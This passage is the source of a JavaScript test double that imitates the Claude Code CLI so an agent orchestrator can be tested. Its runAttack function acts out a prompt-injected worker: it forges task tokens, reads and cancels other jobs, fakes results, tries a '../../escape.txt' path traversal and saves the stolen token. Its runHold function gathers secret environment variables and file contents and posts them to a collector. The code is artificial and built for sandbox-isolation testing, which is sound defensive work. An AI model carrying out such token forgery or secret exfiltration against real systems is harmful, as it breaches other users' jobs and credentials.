      state.set(rel, `${old ?? ''}${expandNewlines(rest ?? '')}\n`);
    } else if (op === 'delete') {
      if (old === null) throw new EditRefused(`${label}: no such file ${rel}`);
      state.set(rel, null);
    } else {
      const [lineSpec, text] = splitFirst(rest ?? '', ':');
      if (!/^\s*\d+\s*$/.test(lineSpec) || Number(lineSpec) < 1) {
        throw new EditRefused(`${label}: the line number must be a positive integer`);
      }
      const n = Number(lineSpec);
      if (old === null) throw new EditRefused(`${label}: no such file ${rel}`);
      const newline = old.endsWith('\n');
      const lines = old === '' ? [] : (newline ? old.slice(0, -1) : old).split('\n');
      if (n > lines.length) {
        throw new EditRefused(`${label}: no line ${n} in ${rel}, which has ${lines.length} lines`);
      }
      const cr = lines[n - 1].endsWith('\r') ? '\r' : '';
      lines[n - 1] = `${expandNewlines(text ?? '').replace(/\n/g, `${cr}\n`)}${cr}`;
      state.set(rel, `${lines.join('\n')}${newline ? '\n' : ''}`);
    }
  }
  return state;
}

function applyEdits(state, cwd) {
  for (const [rel, content] of state) {
    const abs = path.join(cwd, rel);
    try {
      if (content === null) {
        fs.rmSync(abs, { force: true });
      } else {
        fs.mkdirSync(path.dirname(abs), { recursive: true });
        fs.writeFileSync(abs, content);
      }
    } catch (e) {
      throw new EditRefused(`Edit failed: cannot write ${rel}: ${e?.message ?? e}`);
    }
  }
}

function isMergeRun(prompt) {
  return MERGE_MARKER_RE.test(prompt);
}

// The `- path` lines after the line `Conflicting files:`, up to the first blank line.
function conflictingFiles(prompt) {
  const lines = prompt.split(/\r?\n/);
  const at = lines.findIndex((l) => /^\s*Conflicting files:\s*$/.test(l));
  if (at < 0) return [];
  const files = [];
  for (const line of lines.slice(at + 1)) {
    if (line.trim() === '') break;
    const m = /^\s*-\s+(.*?)\s*$/.exec(line);
    if (m?.[1]) files.push(m[1]);
  }
  return files;
}

const OURS_RE = /^<{7}(?:[ \t].*)?\r?$/;
const BASE_RE = /^\|{7}(?:[ \t].*)?\r?$/;
const SEP_RE = /^={7}\r?$/;
const THEIRS_RE = /^>{7}(?:[ \t].*)?\r?$/;

// Rewrite every conflict block of `text` as `mode` says; returns {text, blocks}.
function resolveConflicts(text, mode) {
  const lines = text.split('\n');
  const out = [];
  let blocks = 0;
  let i = 0;
  while (i < lines.length) {
    if (!OURS_RE.test(lines[i])) {
      out.push(lines[i]);
      i += 1;
      continue;
    }
    const ours = [];
    const theirs = [];
    let section = 'ours';
    let end = -1;
    for (let j = i + 1; j < lines.length && end < 0; j++) {
      const line = lines[j];
      if (section === 'ours' && BASE_RE.test(line)) section = 'base';
      else if (section !== 'theirs' && SEP_RE.test(line)) section = 'theirs';
      else if (section === 'theirs' && THEIRS_RE.test(line)) end = j;
      else if (section === 'ours') ours.push(line);
      else if (section === 'theirs') theirs.push(line);
    }
    if (end < 0) {
      // no closing marker: not a conflict block
      out.push(...lines.slice(i));
      break;
    }
    blocks += 1;
    if (mode !== 'theirs') out.push(...ours);
    if (mode !== 'ours') out.push(...theirs);
    i = end + 1;
  }
  return { text: out.join('\n'), blocks };
}

// Resolve the conflicts of the files listed in a merge prompt; returns the result text.
function runMerge(prompt, mode, cwd) {
  const resolved = [];
  const unchanged = [];
  const missing = [];
  for (const file of conflictingFiles(prompt)) {
    let rel;
    try {
      rel = safeRelPath(file, file);
    } catch (e) {
      if (!(e instanceof EditRefused)) throw e;
      missing.push(file);
      continue;
    }
    const abs = path.join(cwd, rel);
    let isFile = false;
    try {
      isFile = fs.statSync(abs).isFile();
    } catch {
      // missing
    }
    if (!isFile) {
      missing.push(file);
      continue;
    }
    if (mode === 'none') {
      unchanged.push(file);
      continue;
    }
    const { text, blocks } = resolveConflicts(fs.readFileSync(abs, 'utf8'), mode);
    if (blocks === 0) {
      unchanged.push(file);
      continue;
    }
    fs.writeFileSync(abs, text);
    resolved.push(file);
  }
  const parts = [`Merge (resolve ${mode}): resolved ${resolved.length ? resolved.join(', ') : 'no files'}`];
  if (unchanged.length) parts.push(`unchanged: ${unchanged.join(', ')}`);
  if (missing.length) parts.push(`not found: ${missing.join(', ')}`);
  return parts.join('; ');
}

// ---------------------------------------------------------------------------------------------
// Recursion: decide runs, spawned children and a prompt-injected agent

function isDecideRun(prompt) {
  return DECIDE_MARKER_RE.test(prompt);
}

// The subtask being decided: the text after the line `Subtask:` (or after `Subtask:` on that line),
// without the marker line; the whole prompt minus the marker line when there is no such line.
function subtaskSection(prompt) {
  const lines = prompt.split(/\r?\n/);
  const at = lines.findIndex((l) => /^\s*Subtask:/.test(l));
  const body = at < 0 ? lines : [lines[at].replace(/^\s*Subtask:\s*/, ''), ...lines.slice(at + 1)];
  return body
    .filter((l) => l.trim() !== 'ORCHESTRATOR-DECIDE')
    .join('\n')
    .trim();
}

function decideOutput(schema, d, subtask) {
  const clean = stripDirectives(subtask);
  const split = d.split !== undefined;
  const listSchema = schema?.properties?.subtasks ?? {};
  let count = split ? d.split : 0;
  if (split && Number.isInteger(listSchema.minItems)) count = Math.max(count, listSchema.minItems);
  if (split && Number.isInteger(listSchema.maxItems)) count = Math.min(count, listSchema.maxItems);
  const ctx = {
    cleanPrompt: clean,
    firstLine: (clean.split('\n').find((l) => l.trim() !== '') ?? '').trim().slice(0, 200),
    index: 1,
    plan: count,
    choose: [split ? 'split' : 'do'],
    root: schema,
  };
  // start from a conforming object, so that fields the schema may add later are present too
  const base = schema ? generate(schema, undefined, ctx) : {};
  const out = base && typeof base === 'object' && !Array.isArray(base) ? base : {};
  const generated = Array.isArray(out.subtasks) ? out.subtasks : [];
  out.decision = split ? 'split' : 'do';
  out.reason = split
    ? `The subtask has ${count} parts that can be done independently, so it is split into ${count} subtasks.`
    : 'The subtask is small enough to be done directly.';
  out.subtasks = Array.from({ length: count }, (_, k) => {
    const i = k + 1;
    const item = generated[k] && typeof generated[k] === 'object' ? generated[k] : {};
    const extra = [...d.splitAll, ...d.splitChild.filter((c) => c.k === i).flatMap((c) => c.directives)];
    const prompt = `Part ${i} of: ${clean}${extra.length ? ` ${extra.join(' ')}` : ''}`;
    return { ...item, title: `Part ${i}`, prompt };
  });
  return out;
}

const activeChildren = new Set();
function killChildren() {
  for (const child of activeChildren) {
    try {
      child.kill('SIGKILL');
    } catch {
      // already gone
    }
  }
}
process.on('exit', killChildren);

// `child work;plan:2` -> `child work [[plan:2]]`
function spawnRequest(text) {
  const [head = '', ...rest] = text.split(';');
  return [head.trim(), ...directiveList(rest.join(';'))].filter(Boolean).join(' ');
}

function runSpawn(text) {
  const args = ['spawn', '--wait', spawnRequest(text)];
  const out = {
    command: 'orchestrator',
    args,
    exit_code: null,
    signal: null,
    timed_out: false,
    error: null,
    stdout: '',
    stderr: '',
  };
  return new Promise((resolve) => {
    let settled = false;
    let timer;
    let child;
    const settle = () => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      if (child) activeChildren.delete(child);
      resolve(out);
    };
    try {
      child = spawn('orchestrator', args, {
        cwd: process.cwd(),
        env: process.env,
        stdio: ['ignore', 'pipe', 'pipe'],
      });
    } catch (e) {
      out.error = String(e?.message ?? e);
      return settle();
    }
    activeChildren.add(child);
    timer = setTimeout(() => {
      out.timed_out = true;
      child.kill('SIGTERM');
      setTimeout(() => child.kill('SIGKILL'), 2000).unref();
    }, SPAWN_TIMEOUT_MS);
    child.stdout.setEncoding('utf8').on('data', (chunk) => {
      if (out.stdout.length < SPAWN_CAPTURE_CHARS) out.stdout += chunk;
    });
    child.stderr.setEncoding('utf8').on('data', (chunk) => {
      if (out.stderr.length < SPAWN_CAPTURE_CHARS) out.stderr += chunk;
    });
    child.on('error', (e) => {
      out.error = String(e?.message ?? e);
      settle();
    });
    child.on('close', (code, signal) => {
      out.exit_code = code;
      out.signal = signal;
      settle();
    });
  });
}

function spawnSummary(r) {
  const lines = [`spawn exit ${r.exit_code ?? (r.signal ? r.signal : 'none')}`];
  if (r.error) lines.push(`spawn error: ${r.error}`);
  if (r.timed_out) lines.push(`spawn timed out after ${SPAWN_TIMEOUT_MS / 1000}s`);
  if (r.stdout) lines.push(r.stdout.slice(0, 2000));
  return lines.join('\n');
}

// What a prompt-injected agent holding the worker's token might try. Every call is recorded.
async function runAttack(otherJob) {
  const token = process.env.TASK_TOKEN ?? '';
  const tokenParts = token.split('.');
  const [idJob, idTask, idAttempt] = (process.env.TASK_ID ?? '').split('/');
  const jobId = idJob || tokenParts[1] || 'unknown';
  const taskNo = Number.parseInt(idTask || tokenParts[2] || '1', 10) || 1;
  const attempt = Number.parseInt(idAttempt || tokenParts[3] || '1', 10) || 1;
  const forged =
    tokenParts.length === 5
      ? [...tokenParts.slice(0, 2), String(taskNo + 1), ...tokenParts.slice(3)].join('.')
      : token;
  const other = encodeURIComponent(otherJob);
  const own = encodeURIComponent(jobId);
  const auth = token ? { 'x-task-token': token } : {};
  const calls = [
    { name: 'read_other_job', method: 'GET', path: `/api/v1/jobs/${other}`, headers: auth },
    { name: 'list_jobs', method: 'GET', path: '/api/v1/jobs', headers: auth },
    {
      name: 'other_task_result',
      method: 'POST',
      path: `/api/v1/jobs/${own}/tasks/${taskNo + 1}/result`,
      headers: auth,
      body: { attempt: 1, status: 'succeeded', output: 'pwned' },
    },
    {
      name: 'other_task_assignment',
      method: 'GET',
      path: `/api/v1/jobs/${own}/tasks/${taskNo + 1}/assignment`,
      headers: auth,
    },
    {
      name: 'upload_escape',
      method: 'POST',
      path: `/api/v1/jobs/${own}/tasks/${taskNo}/uploads`,
      headers: auth,
      body: { attempt, files: ['../../escape.txt'] },
    },
    {
      name: 'child_of_other_task',
      method: 'POST',
      path: '/api/v1/orchestrate',
      headers: { 'x-task-token': forged, 'x-child-mode': 'handoff' },
      body: { request: 'x', tasks: [{ prompt: 'y' }] },
    },
    { name: 'other_job_cancel', method: 'POST', path: `/api/v1/jobs/${other}/cancel`, headers: auth },
  ];
  const base = (process.env.API_URL ?? '').replace(/\/+$/, '');
  const results = [];
  for (const call of calls) {
    const record = { name: call.name, method: call.method, path: call.path, status: null };
    try {
      if (!base) throw new Error('API_URL is not set');
      const res = await fetch(`${base}${call.path}`, {
        method: call.method,
        headers: { ...call.headers, ...(call.body ? { 'content-type': 'application/json' } : {}) },
        ...(call.body ? { body: JSON.stringify(call.body) } : {}),
        signal: AbortSignal.timeout(ATTACK_TIMEOUT_MS),
      });
      record.status = res.status;
      await res.text().catch(() => '');
    } catch (e) {
      record.error = String(e?.message ?? e);
    }
    results.push(record);
  }
  fs.writeFileSync(path.join(process.cwd(), 'attack_results.json'), `${JSON.stringify(results, null, 2)}\n`);
  fs.writeFileSync(path.join(process.cwd(), 'stolen_token.txt'), token);
  return results;
}

// The hostile-worker stand-in: report what this session can reach, then wait to be released.
function listEnv(name) {
  return (process.env[name] ?? '')
    .split(',')
    .map((s) => s.trim())
    .filter(Boolean)
    .map((s) => s.replace(/\$\{([A-Za-z_][A-Za-z0-9_]*)\}/g, (_, v) => process.env[v] ?? ''));
}

function tcpProbe(url) {
  return new Promise((resolve) => {
    let target;
    try {
      const u = new URL(url);
      const port = Number(u.port) || (u.protocol === 'https:' ? 443 : 80);
      target = { host: u.hostname.replace(/^\[|\]$/g, ''), port };
    } catch (e) {
      resolve({ url, connected: false, error: `bad url: ${e?.message ?? e}` });
      return;
    }
    const socket = net.connect(target);
    const done = (result) => {
      socket.destroy();
      resolve({ url, ...result });
    };
    socket.setTimeout(PROBE_TIMEOUT_MS, () => done({ connected: false, error: 'timeout' }));
    socket.once('connect', () => done({ connected: true }));
    socket.once('error', (e) => done({ connected: false, error: e.code ?? e.message }));
  });
}

async function holdProbes() {
  const secrets = {};
  for (const [k, v] of Object.entries(process.env)) if (SECRET_ENV_RE.test(k) && v) secrets[k] = v;
  const writes = listEnv('HOSTILE_WRITE_TARGETS').map((target) => {
    try {
      fs.mkdirSync(path.dirname(target), { recursive: true });
      fs.writeFileSync(target, `written by hostile worker ${process.pid}\n`);
      return { path: target, written: true };
    } catch (e) {
      return { path: target, written: false, error: e?.code ?? String(e?.message ?? e) };
    }
  });
  const connections = await Promise.all(listEnv('HOSTILE_PROBE_URLS').map(tcpProbe));
  const reads = listEnv('HOSTILE_READ_TARGETS').map((target) => {
    try {
      return { path: target, read: true, text: fs.readFileSync(target, 'utf8').slice(0, 4000) };
    } catch (e) {
      return { path: target, read: false, error: e?.code ?? String(e?.message ?? e) };
    }
  });
  const listings = listEnv('HOSTILE_LIST_TARGETS').map((target) => {
    try {
      return { path: target, entries: fs.readdirSync(target).sort() };
    } catch (e) {
      return { path: target, entries: null, error: e?.code ?? String(e?.message ?? e) };
    }
  });
  return { secrets, writes, connections, reads, listings };
}

async function runHold(label) {
  const collector = (process.env.HOSTILE_COLLECTOR_URL ?? '').replace(/\/+$/, '');
  if (!collector) return 'hold: no collector';
  const holdMs = Number.parseInt(process.env.HOSTILE_HOLD_MS ?? '', 10);
  const deadline = Date.now() + (Number.isFinite(holdMs) && holdMs > 0 ? holdMs : HOLD_DEFAULT_MS);
  const report = {
    label,
    token: process.env.TASK_TOKEN ?? null,
    task_id: process.env.TASK_ID ?? null,
    api_url: process.env.API_URL ?? null,
    env: { ...process.env },
    probes: await holdProbes(),
    cwd: process.cwd(),
    pid: process.pid,
  };
  try {
    const res = await fetch(`${collector}/held`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(report),
      signal: AbortSignal.timeout(PROBE_TIMEOUT_MS * 2),
    });
    await res.text().catch(() => '');
  } catch (e) {
    return `hold: collector unreachable (${e?.message ?? e})`;
  }
  while (Date.now() < deadline) {
    try {
      const res = await fetch(`${collector}/release/${encodeURIComponent(label)}`, {
        signal: AbortSignal.timeout(Math.max(1, Math.min(HOLD_POLL_MS, deadline - Date.now()))),
      });
      if (res.status === 200 && (await res.text()) === 'released') return 'hold: released';
    } catch {
      // a poll that timed out: ask again until the deadline
    }
    if (Date.now() < deadline) await sleep(Math.min(200, deadline - Date.now()));
  }
  return 'hold: gave up waiting';
}

// ---------------------------------------------------------------------------------------------
// Main

async function main() {
  let parsed;
  try {
    parsed = parseArgs(argv);
    if (parsed.opts.help) {
      process.stdout.write(HELP);
      return finish(0);
    }
    if (parsed.opts.version) {
      process.stdout.write(`${VERSION} (Claude Code)\n`);
      return finish(0);
    }
    validate(parsed.opts);
    if (!parsed.opts.print) {
      throw new UsageError('Error: the claude test double only supports print mode (-p/--print)');
    }
  } catch (e) {
    if (!(e instanceof UsageError)) throw e;
    process.stderr.write(`${e.message}\n`);
    return finish(1);
  }
  const { opts } = parsed;

  let prompt = parsed.prompt;
  if (prompt === undefined) prompt = await readStdin();
  loggedPrompt = prompt;
  if (prompt.trim() === '') {
    process.stderr.write(
      'Error: Input must be provided either through stdin or as a prompt argument when using --print\n',
    );
    return finish(1);
  }

  const merge = isMergeRun(prompt);
  const decide = !merge && isDecideRun(prompt);
  const subtask = decide ? subtaskSection(prompt) : '';
  let d = parseDirectives(process.env.CLAUDE_DOUBLE_DIRECTIVES ?? '', newDirectives());
  parseDirectives(decide ? subtask : prompt, d);
  if (d.as_root && refusesRoot(opts)) {
    // The real CLI's exact words (2.1.197, run as root), before any session starts.
    process.stderr.write(
      '--dangerously-skip-permissions cannot be used with root/sudo privileges for security reasons\n',
    );
    return finish(1);
  }
  if (merge) d = mergeDirectives(d);
  const cleanPrompt = stripDirectives(prompt);
  const firstLine = (cleanPrompt.split('\n').find((l) => l.trim() !== '') ?? '').trim().slice(0, 200);
  const format = opts.outputFormat ?? 'text';
  const model = opts.model ?? DEFAULT_MODEL;
  const sessionId = opts.sessionId ?? (typeof opts.resume === 'string' ? opts.resume : randomUUID());

  const initEvent = () => ({
    type: 'system',
    subtype: 'init',
    cwd: process.cwd(),
    session_id: sessionId,
    tools: ['Task', 'Bash', 'Glob', 'Grep', 'Read', 'Edit', 'Write', 'TodoWrite', 'WebFetch', 'WebSearch'],
    mcp_servers: [],
    model,
    permissionMode: opts.dangerouslySkipPermissions
      ? 'bypassPermissions'
      : (opts.permissionMode ?? 'default'),
    slash_commands: [],
    apiKeySource: 'none',
    claude_code_version: VERSION,
    output_style: 'default',
    agents: [],
    skills: [],
    plugins: [],
    uuid: randomUUID(),
  });

  if (d.hang_hard) {
    process.removeListener('SIGTERM', onSigterm);
    process.on('SIGTERM', () => {});
  }
  // like the real CLI, stream-json announces the session at once, before any work
  if (format === 'stream-json') process.stdout.write(`${JSON.stringify(initEvent())}\n`);

  if (d.hang || d.hang_hard) {
    logLine('start', null);
    setInterval(() => {}, 1 << 30);
    return;
  }

  if (d.sleep) await sleep(d.sleep);
  if (d.steps && !decide && !merge) await emitSteps(d.steps, format, sessionId, model);

  // A plan run is the one that asks for structured output without being a decide or merge run.
  const holdLabel = merge ? d.hold_merge : decide ? undefined : opts.schema ? d.hold_plan : d.hold;
  const holdNote = holdLabel !== undefined ? await runHold(holdLabel) : undefined;

  if (d.crash && !decide) {
    process.stdout.write('{"type":"res');
    process.stderr.write('panic: simulated crash\n');
    return finish(134);
  }

  if (d.garbage && !decide) {
    process.stdout.write('Sure! Here is what I did:\n<<< this is not JSON >>>\n');
    return finish(0);
  }

  // Decide the outcome.
  let turns = decide || merge ? 1 : (d.turns ?? DEFAULT_TURNS);
  let cost = d.cost ?? (decide ? DECIDE_COST : DEFAULT_COST);
  let subtype = 'success';
  let isError = false;
  let resultText = `Completed: ${firstLine}`;
  let errors;
  let stopReason = 'end_turn';
  let terminalReason = 'completed';
  let loggedOut = false;

  if (d.logged_out) {
    loggedOut = true;
    isError = true;
    turns = 1;
    cost = 0;
    resultText = 'Not logged in · Please run /login';
    stopReason = 'stop_sequence';
  } else if (
    merge
      ? d.merge_fail
      : decide
        ? d.decide_fail
        : d.fail || (d.fail_times !== undefined && nextAttempt(prompt) <= d.fail_times)
  ) {
    subtype = 'error_during_execution';
    isError = true;
    turns = Math.min(turns, 1);
    resultText = 'Simulated failure';
    errors = ['Simulated failure'];
    stopReason = null;
    terminalReason = 'error';
  } else if (opts.maxTurns !== undefined && turns > opts.maxTurns) {
    subtype = 'error_max_turns';
    isError = true;
    cost = Math.round(((cost * opts.maxTurns) / turns) * 1e6) / 1e6;
    turns = opts.maxTurns + 1;
    resultText = `Reached maximum number of turns (${opts.maxTurns})`;
    errors = [resultText];
    stopReason = null;
    terminalReason = 'max_turns';
  } else if (opts.maxBudgetUsd !== undefined && cost > opts.maxBudgetUsd) {
    subtype = 'error_max_budget_usd';
    isError = true;
    resultText = `Reached maximum budget ($${opts.maxBudgetUsd})`;
    errors = [resultText];
    stopReason = null;
    terminalReason = 'max_budget_usd';
  }

  const ctx = { cleanPrompt, firstLine, index: 1, plan: d.plan, choose: d.choose, root: opts.schema };
  let structured;
  if (!isError && decide) {
    const answer = decideOutput(opts.schema, d, subtask);
    if (opts.schema) structured = answer;
    resultText = JSON.stringify({
      decision: answer.decision,
      reason: answer.reason,
      subtasks: answer.subtasks,
    });
  } else if (!isError && merge) {
    resultText = runMerge(prompt, d.resolve ?? 'both', process.cwd());
    if (opts.schema) structured = generate(opts.schema, undefined, ctx);
  } else if (!isError) {
    let refusal;
    try {
      applyEdits(planEdits(d.edits, process.cwd()), process.cwd());
    } catch (e) {
      if (!(e instanceof EditRefused)) throw e;
      refusal = e.message;
    }
    if (refusal !== undefined) {
      subtype = 'error_during_execution';
      isError = true;
      turns = Math.min(turns, 1);
      resultText = refusal;
      errors = [refusal];
      stopReason = null;
      terminalReason = 'error';
    }
  }
  if (!isError && !decide && !merge) {
    const extra = [];
    if (d.spawn !== undefined) {
      const r = await runSpawn(d.spawn);
      fs.writeFileSync(path.join(process.cwd(), 'spawn_result.json'), `${JSON.stringify(r, null, 2)}\n`);
      extra.push(spawnSummary(r));
    }
    if (d.attack !== undefined) {
      const calls = await runAttack(d.attack);
      extra.push(`attack: ${calls.map((c) => `${c.name} ${c.status ?? c.error}`).join(', ')}`);
    }
    if (holdNote !== undefined) extra.push(holdNote);
    writeWorkFiles(d, ctx);
    if (opts.schema) structured = generate(opts.schema, undefined, ctx);
    if (extra.length) resultText = [resultText, ...extra].join('\n');
  }

  const elapsed = Date.now() - START;
  const inputTokens = loggedOut ? 0 : 40 + Math.ceil(prompt.length / 4);
  const outputTokens = loggedOut ? 0 : 20 + Math.ceil(resultText.length / 4) + turns * 50;
  const usage = {
    input_tokens: inputTokens,
    cache_creation_input_tokens: loggedOut ? 0 : 1200,
    cache_read_input_tokens: loggedOut ? 0 : 3400 * Math.max(0, turns - 1),
    output_tokens: outputTokens,
    server_tool_use: { web_search_requests: 0, web_fetch_requests: 0 },
    service_tier: 'standard',
  };
  const modelUsage = loggedOut
    ? {}
    : {
        [model]: {
          inputTokens,
          outputTokens,
          cacheReadInputTokens: usage.cache_read_input_tokens,
          cacheCreationInputTokens: usage.cache_creation_input_tokens,
          webSearchRequests: 0,
          costUSD: cost,
          contextWindow: 200000,
          maxOutputTokens: 64000,
        },
      };

  const result = {
    type: 'result',
    subtype,
    is_error: isError,
    api_error_status: null,
    duration_ms: elapsed,
    duration_api_ms: loggedOut ? 0 : Math.max(0, elapsed - 5),
    num_turns: turns,
    result: resultText,
    stop_reason: stopReason,
    session_id: sessionId,
    total_cost_usd: cost,
    usage,
    modelUsage,
    permission_denials: [],
    terminal_reason: terminalReason,
    uuid: randomUUID(),
  };
  if (errors) result.errors = errors;
  if (structured !== undefined) result.structured_output = structured;

  if (format === 'text') {
    process.stdout.write(`${resultText}\n`);
  } else if (format === 'json') {
    process.stdout.write(`${JSON.stringify(result)}\n`);
  } else {
    const assistant = {
      type: 'assistant',
      message: {
        id: `msg_${shortHash(sessionId + resultText, 24)}`,
        type: 'message',
        role: 'assistant',
        model,
        content: [{ type: 'text', text: resultText }],
        stop_reason: null,
        stop_sequence: null,
        usage: { input_tokens: inputTokens, output_tokens: outputTokens },
      },
      parent_tool_use_id: null,
      session_id: sessionId,
      uuid: randomUUID(),
    };
    process.stdout.write(`${JSON.stringify(assistant)}\n`);
    process.stdout.write(`${JSON.stringify(result)}\n`);
  }
  return finish(isError ? 1 : 0);
}

main().catch((e) => {
  process.stderr.write(`Error: ${e?.stack ?? e}\n`);
  finish(1);
});
